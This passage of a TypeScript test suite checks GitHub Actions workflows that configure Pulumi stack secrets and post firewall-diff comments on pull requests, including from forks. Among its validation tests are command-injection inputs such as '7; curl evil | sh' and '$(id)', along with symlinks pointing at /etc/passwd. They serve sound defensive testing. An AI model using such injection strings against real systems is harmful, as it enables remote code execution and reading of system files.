        expect(r.log).toContain("sshPrivateKey: set from the secret SSH_PRIVATE_KEY");
    });

    test.each(pulumiJobs)("$name: a stack's own secret (SSH_PRIVATE_KEY_<STACK>) wins over the shared one, where the job is given it", ({ wf, job, stack }) => {
        const r = runStep(wf, job, setter(job), { secrets: ALL_SECRETS, stack });
        expect(r.status).toBe(0);
        const own = `SSH_PRIVATE_KEY_${stack!.toUpperCase()}`;
        const given = (setter(job).env ?? {})[own] !== undefined;
        expect([own, configSets(r.calls, stack, "sshPrivateKey")[0].stdin]).toEqual([own, given ? ALL_SECRETS[own] : ALL_SECRETS.SSH_PRIVATE_KEY]);
    });

    test.each(pulumiJobs)("$name: a secret the step does not pass on is an error naming it, not a stack without the key", ({ wf, job, stack }) => {
        // What a workflow that forgot a key's secret does (the test above fails on it, this is why).
        const step = setter(job);
        for (const key of REQUIRED_SECRET_KEYS) {
            const name = secretNameOf(key);
            const env = Object.fromEntries(Object.entries(step.env ?? {}).filter(([k]) => k !== name));
            const r = runStep(wf, job, { ...step, env }, { secrets: SHARED_SECRETS, stack });
            expect(r.status).toBe(1);
            expect(r.log).toContain(`::error::The stack ${stack} needs ${key}: add the secret ${name}`);
            expect(configSets(r.calls, stack, key)).toEqual([]);
        }
    });

    test.each(pulumiJobs)("$name: the gate sees every secret the stack needs: all there, the Pulumi steps run", ({ wf, gateJob, gate, job }) => {
        const r = runStep(wf, gateJob, gate, { secrets: ALL_SECRETS });
        expect(r.status).toBe(0);
        expect(r.outputs.configured).toBe("true");
        expect(r.log).not.toMatch(/::(warning|error)::/);
        // Each required key's secret counts: without it, no preview or deploy.
        for (const key of REQUIRED_SECRET_KEYS) {
            const without = runStep(wf, gateJob, gate, { secrets: { ...ALL_SECRETS, [secretNameOf(key)]: "" } });
            expect([key, without.outputs.configured]).toEqual([key, "false"]);
            expect(without.log).toContain(secretNameOf(key));
        }
        // In a deploy job every step after the gate waits for it.
        if (gateJob === job) {
            for (const step of job.steps.slice(job.steps.indexOf(gate) + 1)) {
                expect([label("", "", step), step.if ?? ""]).toEqual([label("", "", step), expect.stringMatching(new RegExp(`^steps\\.${gate.id}\\.outputs\\.configured == 'true'( &&|$)`))]);
            }
        }
    });

    test.each(pulumiJobs)("$name: no secret at all (a fork, a repository without a cloud): a notice, nothing runs, nothing fails", ({ wf, gateJob, gate }) => {
        const r = runStep(wf, gateJob, gate, { secrets: {} });
        expect(r.status).toBe(0);
        expect(r.outputs.configured).toBe("false");
        expect(r.log).toMatch(/^::notice::No cloud credentials or stack secrets .*README, CI\/CD/m);
    });

    test.each(pulumiJobs)("$name: some secrets but not all: previews are skipped with a warning, a deploy fails naming what is missing", ({ wf, gateJob, gate, job }) => {
        const r = runStep(wf, gateJob, gate, { secrets: { PULUMI_ACCESS_TOKEN: "t", OS_AUTH_URL: "https://keystone.example.org:5000/v3" } });
        const missing = "OS_APPLICATION_CREDENTIAL_ID and OS_APPLICATION_CREDENTIAL_SECRET (or OS_USERNAME and OS_PASSWORD); SSH_PRIVATE_KEY (config key sshPrivateKey)";
        if (gateJob === job) {
            expect(r.status).toBe(1);
            expect(r.log).toContain(`::error::Missing secrets: ${missing}`);
        } else {
            expect(r.status).toBe(0);
            expect(r.log).toContain(`::warning::Missing secrets: ${missing}`);
        }
        expect(r.outputs.configured).toBe("false");
    });

    test.each(pulumiJobs)("$name: a self-managed backend (its URL and passphrase) instead of Pulumi Cloud", ({ wf, gateJob, gate, job, stack }) => {
        const secrets = { ...ALL_SECRETS, PULUMI_ACCESS_TOKEN: "" };
        expect(runStep(wf, gateJob, gate, { secrets }).outputs.configured).toBe("true");
        expect(runStep(wf, gateJob, gate, { secrets: { ...secrets, PULUMI_CONFIG_PASSPHRASE: "" } }).log).toContain("PULUMI_CONFIG_PASSPHRASE (with PULUMI_BACKEND_URL)");
        // The backend's URL, passphrase and bucket keys reach pulumi in both steps.
        for (const step of [setter(job), pulumiStep(job)]) {
            for (const name of ["PULUMI_BACKEND_URL", "PULUMI_CONFIG_PASSPHRASE", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"]) {
                expect([name, stepEnv(wf, job, step, { secrets, stack })[name]]).toEqual([name, fakeSecret(name)]);
            }
        }
        expect(job.env?.PULUMI_FALLBACK_TO_STATE_SECRETS_MANAGER).toBe("true");
    });

    test.each(pulumiJobs)("$name: with the stacks' secrets in Pulumi ESC (STACK_SECRETS_FROM_ESC), the Pulumi token is enough and nothing is set", ({ wf, gateJob, gate, job, stack }) => {
        const vars = { STACK_SECRETS_FROM_ESC: "true" };
        expect(runStep(wf, gateJob, gate, { secrets: { PULUMI_ACCESS_TOKEN: "t" }, vars }).outputs.configured).toBe("true");
        expect(runStep(wf, gateJob, gate, { secrets: { PULUMI_BACKEND_URL: "s3://state", PULUMI_CONFIG_PASSPHRASE: "p" }, vars }).outputs.configured).toBe("false");
        const r = runStep(wf, job, setter(job), { secrets: { PULUMI_ACCESS_TOKEN: "t" }, vars, stack });
        expect(r.status).toBe(0);
        expect(r.calls.filter((c) => c.args[1] === "set")).toEqual([]);
    });

    test("the dial-in password: set (with --path) when the stack has dialIn, an error naming its secret when that is missing, nothing without dial-in", () => {
        const { wf, job, stack } = pulumiJobs[0];
        const step = setter(job);
        const withDialIn = { stacks: [stack], config: { [stack]: ["dialIn"] } };
        const r = runStep(wf, job, step, { secrets: SHARED_SECRETS, stack }, withDialIn);
        expect(r.status).toBe(0);
        const [set] = configSets(r.calls, stack, "dialIn.gateway.password");
        expect(set.args).toEqual(expect.arrayContaining(["--secret", "--path"]));
        expect(set.stdin).toBe(SHARED_SECRETS.DIAL_IN_GATEWAY_PASSWORD);

        const missing = runStep(wf, job, step, { secrets: { ...SHARED_SECRETS, DIAL_IN_GATEWAY_PASSWORD: "" }, stack }, withDialIn);
        expect(missing.status).toBe(1);
        expect(missing.log).toContain(`::error::The stack ${stack} needs dialIn.gateway.password: add the secret DIAL_IN_GATEWAY_PASSWORD`);

        const none = runStep(wf, job, step, { secrets: SHARED_SECRETS, stack });
        expect(configSets(none.calls, stack, "dialIn.gateway.password")).toEqual([]);
    });

    test("a stack the backend does not have: an error saying to create it once, and nothing set", () => {
        const { wf, job, stack } = pulumiJobs[0];
        const r = runStep(wf, job, setter(job), { secrets: SHARED_SECRETS, stack }, { stacks: [] });
        expect(r.status).toBe(1);
        expect(r.log).toContain(`::error::Could not select the stack ${stack} in the Pulumi backend. If it does not exist yet, create it once: pulumi stack init ${stack}`);
        expect(r.calls.filter((c) => c.args[1] === "set")).toEqual([]);
    });

    test("nothing is committed or pushed from a runner (the secrets land in its copy of the stack file only)", () => {
        for (const { file, job, step } of runSteps()) expect([label(file, job, step), step.run]).not.toEqual([expect.anything(), expect.stringMatching(/\bgit\s+(commit|push)\b/)]);
        for (const [, wf] of workflows) for (const job of Object.values(wf.jobs)) expect(Object.values((job.permissions ?? {}) as Record<string, string>)).not.toContain("contents: write");
        for (const file of ["Pulumi.dev.yaml", "Pulumi.prod.yaml"]) expect(read(file)).not.toMatch(/secure:|sshPrivateKey:/);
    });

    test("the README names every secret and variable the workflows read", () => {
        const readme = read("README.md");
        const section = readme.slice(readme.indexOf("### CI/CD"), readme.indexOf("\n#", readme.indexOf("### CI/CD") + 1));
        expect(section.length).toBeGreaterThan(100);
        const names = [...new Set(workflows.flatMap(([, wf]) => [...secretNames(wf), ...[...JSON.stringify(wf).matchAll(/\bvars\.(\w+)/g)].map((m) => m[1])]))];
        for (const name of names) expect([name, section.includes(`\`${name}\``)]).toEqual([name, true]);
    });
});

describe("pull-request-comment.yml (the firewall diff comment, also for pull requests from forks)", () => {
    const job = prComment.jobs.comment;
    const [check, download, post] = job.steps;

    test("runs when a pull-request run completes (in this repository's context), for pull request runs only", () => {
        expect(prComment.on).toEqual({ workflow_run: { workflows: [pr.name], types: ["completed"] } });
        expect(Object.keys(prComment.jobs)).toEqual(["comment"]);
        expect(job.if).toBe("github.event.workflow_run.event == 'pull_request'");
    });

    test("never checks out or runs the pull request's code: no checkout, no run: step, only the artifact's files are read", () => {
        expect(job.steps.map((s) => s.uses?.replace(/@.*/, ""))).toEqual(["actions/github-script", "actions/download-artifact", "actions/github-script"]);
        expect(job.steps.filter((s) => s.run !== undefined)).toEqual([]);
        expect(JSON.stringify(prComment)).not.toMatch(/actions\/checkout|setup-node|npm |head_sha \}\}|head\.sha \}\}/);
        // No expression of the event inside a script: the scripts read the payload through `context`.
        for (const step of [check, post]) expect(String(step.with?.script)).not.toContain("${{");
    });

    test("its token reads the run's artifacts and writes comments, nothing else; the workflow's default token nothing", () => {
        expect(prComment.permissions).toEqual({});
        expect(job.permissions).toEqual({ actions: "read", "pull-requests": "write" });
        expect(secretNames(prComment)).toEqual([]);
    });

    test("downloads the artifact the pull-request run uploaded, from that run, into the runner's temporary directory", () => {
        const upload = pr.jobs.firewall.steps.find((s) => s.uses?.startsWith("actions/upload-artifact@"));
        expect(upload?.with?.name).toBe(COMMENT_ARTIFACT);
        expect(check.env).toEqual({ ARTIFACT: COMMENT_ARTIFACT });
        expect(download.with).toEqual({ name: COMMENT_ARTIFACT, path: "${{ runner.temp }}/pr-comment", "run-id": "${{ github.event.workflow_run.id }}", "github-token": "${{ github.token }}" });
        expect(download.if).toBe(`steps.${check.id}.outputs.found == 'true'`);
        expect(post.if).toBe(download.if);
        expect(post.env).toEqual({ COMMENT_DIR: download.with?.path });
    });

    /** github-script runs its script as the body of an async function given these names. */
    async function runScript(step: Step, github: unknown, context: unknown, env: Record<string, string>) {
        const log: [string, string][] = [];
        const core = {
            info: (m: string) => log.push(["info", m]),
            notice: (m: string) => log.push(["notice", m]),
            setFailed: (m: string) => log.push(["failed", m]),
            setOutput: (k: string, v: string) => log.push(["output", `${k}=${v}`]),
        };
        const AsyncFunction = new Function("return (async () => undefined).constructor")();
        await new AsyncFunction("require", "github", "context", "core", "process", step.with!.script as string)(require, github, context, core, { env });
        return log;
    }

    test("looks for the artifact of the run, and says when there is none (a run cancelled before the diff)", async () => {
        const listed = (artifacts: { name: string; expired: boolean }[]) => ({
            rest: {
                actions: {
                    listWorkflowRunArtifacts: async (args: Record<string, unknown>) => {
                        expect(args).toEqual({ owner: "o", repo: "r", run_id: 99, name: COMMENT_ARTIFACT });
                        return { data: { artifacts } };
                    },
                },
            },
        });
        const context = { repo: { owner: "o", repo: "r" }, payload: { workflow_run: { id: 99 } } };
        expect(await runScript(check, listed([{ name: COMMENT_ARTIFACT, expired: false }]), context, check.env!)).toEqual([["output", "found=true"]]);
        const none = await runScript(check, listed([{ name: COMMENT_ARTIFACT, expired: true }]), context, check.env!);
        expect(none).toEqual([["notice", expect.stringContaining("no comment")], ["output", "found=false"]]);
    });

    const BODY = "<!-- bbb-firewall-diff -->\n## Firewall rules\n\nSecurity group rules change in: **dev**.\n";
    const RUN = {
        id: 99,
        event: "pull_request",
        head_sha: "1111111111111111111111111111111111111111",
        head_branch: "open-5060",
        head_repository: { full_name: "someone/bbb" },
        pull_requests: [] as { number: number }[],
        html_url: "https://github.com/o/r/actions/runs/99",
    };
    const PULLS: Record<number, { head: { sha: string; ref: string; repo: { full_name: string } | null } }> = {
        7: { head: { sha: RUN.head_sha, ref: "open-5060", repo: { full_name: "someone/bbb" } } },
        8: { head: { sha: "2222222222222222222222222222222222222222", ref: "other", repo: { full_name: "o/r" } } },
    };

    /** Runs the posting script on an artifact of these files, against a fake GitHub holding `existing` comments on #7. */
    async function runPost(files: Record<string, string | { symlinkTo: string }>, run = RUN, existing: { id: number; body: string; user: { login: string } }[] = []) {
        const dir = fs.mkdtempSync(path.join(os.tmpdir(), "bbb-pr-comment-"));
        for (const [name, content] of Object.entries(files)) {
            if (typeof content === "string") fs.writeFileSync(path.join(dir, name), content);
            else fs.symlinkSync(content.symlinkTo, path.join(dir, name));
        }
        const writes: [string, Record<string, unknown>][] = [];
        const issues = {
            listComments: () => undefined,
            updateComment: async (args: Record<string, unknown>) => { writes.push(["update", args]); return { data: {} }; },
            createComment: async (args: Record<string, unknown>) => { writes.push(["create", args]); return { data: {} }; },
        };
        const github = {
            rest: {
                issues,
                pulls: {
                    get: async ({ owner, repo, pull_number }: { owner: string; repo: string; pull_number: number }) => {
                        expect([owner, repo]).toEqual(["o", "r"]);
                        if (!(pull_number in PULLS)) throw new Error("Not Found");
                        return { data: PULLS[pull_number] };
                    },
                },
            },
            paginate: async (method: unknown, args: Record<string, unknown>) => {
                expect(method).toBe(issues.listComments);
                expect(args).toMatchObject({ owner: "o", repo: "r", issue_number: expect.any(Number) });
                return existing;
            },
        };
        const context = { repo: { owner: "o", repo: "r" }, payload: { workflow_run: run } };
        const log = await runScript(post, github, context, { COMMENT_DIR: dir });
        return { writes, log, failed: log.filter(([kind]) => kind === "failed").map(([, m]) => m) };
    }

    /** BODY as posted for a fork: under the marker, a warning that the fork's own code computed it. */
    const FROM_FORK = expect.stringMatching(
        /^<!-- bbb-firewall-diff -->\n> \[!WARNING\]\n> Computed by this pull request's own code, from the fork someone\/bbb: [^\n]+\n\n## Firewall rules\n\nSecurity group rules change in: \*\*dev\*\*\.\n$/,
    );

    test("a fork's pull request (the run lists none): posts the comment once the pull request's branch and commit are the run's, saying the fork's code computed it", async () => {
        const r = await runPost({ "pr-number": "7\n", "comment.md": BODY });
        expect(r.failed).toEqual([]);
        expect(r.writes).toEqual([["create", { owner: "o", repo: "r", issue_number: 7, body: FROM_FORK }]]);
    });

    test("a branch of this repository: the comment as the run made it, without the fork's warning", async () => {
        const own = { ...RUN, head_repository: { full_name: "o/r" }, head_branch: "other", head_sha: PULLS[8].head.sha, pull_requests: [{ number: 8 }] };
        const r = await runPost({ "pr-number": "8", "comment.md": BODY }, own);
        expect(r.failed).toEqual([]);
        expect(r.writes).toEqual([["create", { owner: "o", repo: "r", issue_number: 8, body: BODY }]]);
    });

    test("edits its own earlier comment, never somebody else's quoting the marker", async () => {
        const existing = [
            { id: 1, body: "<!-- bbb-firewall-diff -->\nquoted by hand", user: { login: "someone" } },
            { id: 2, body: "<!-- bbb-firewall-diff -->\nby another app", user: { login: "other-app[bot]" } },
            { id: 3, body: "<!-- bbb-firewall-diff -->\nold", user: { login: "github-actions[bot]" } },
        ];
        const r = await runPost({ "pr-number": "7\n", "comment.md": BODY }, RUN, existing);
        expect(r.writes).toEqual([["update", { owner: "o", repo: "r", comment_id: 3, body: FROM_FORK }]]);
    });

    test.each([["", "empty"], ["7; curl evil | sh", "a command"], ["07", "a leading zero"], ["$(id)", "a substitution"], ["99999999999", "too long"]])(
        "a pr-number that is not a number (%j, %s) is refused, nothing posted",
        async (text) => {
            const r = await runPost({ "pr-number": text, "comment.md": BODY });
            expect(r.failed).toEqual([expect.stringContaining("not a pull request number")]);
            expect(r.writes).toEqual([]);
        },
    );

    test("a pr-number naming another pull request than the run's is refused, nothing posted", async () => {
        // A fork's run claiming a pull request of this repository's own branch.
        const other = await runPost({ "pr-number": "8", "comment.md": BODY });
        expect(other.failed).toEqual([expect.stringContaining("is not the one of run 99")]);
        expect(other.writes).toEqual([]);
        // A branch of this repository: the run lists its pull request, and the artifact must name it.
        const listed = await runPost({ "pr-number": "7", "comment.md": BODY }, { ...RUN, pull_requests: [{ number: 8 }] });
        expect(listed.failed).toEqual([expect.stringContaining("the run was for #8")]);
        expect(listed.writes).toEqual([]);
    });

    test("a pull request that moved on since the run: no comment (its newer run comments), and no failure", async () => {
        const r = await runPost({ "pr-number": "7", "comment.md": BODY }, { ...RUN, head_sha: "3333333333333333333333333333333333333333" });
        expect(r.failed).toEqual([]);
        expect(r.log).toEqual([["notice", expect.stringContaining("moved on")]]);
        expect(r.writes).toEqual([]);
    });

    test("a comment without the marker, or not a regular file (a symlink out of the artifact), is refused", async () => {
        for (const files of [{ "pr-number": "7", "comment.md": "hello" }, { "pr-number": "7", "comment.md": { symlinkTo: "/etc/passwd" } }, { "pr-number": { symlinkTo: "/etc/hostname" }, "comment.md": BODY }]) {
            const r = await runPost(files);
            expect(r.failed).toHaveLength(1);
            expect(r.writes).toEqual([]);
        }
    });

    test("keeps a huge diff under GitHub's comment limit, marker included, pointing to the run", async () => {
        const huge = BODY + "| x |\n".repeat(20000);
        const r = await runPost({ "pr-number": "7", "comment.md": huge });
        const body = r.writes[0][1].body as string;
        expect(body.length).toBeLessThan(65536);
        expect(body).toMatch(/^<!-- bbb-firewall-diff -->\n/);
        expect(body).toContain(`[the run](${RUN.html_url})`);
    });
});
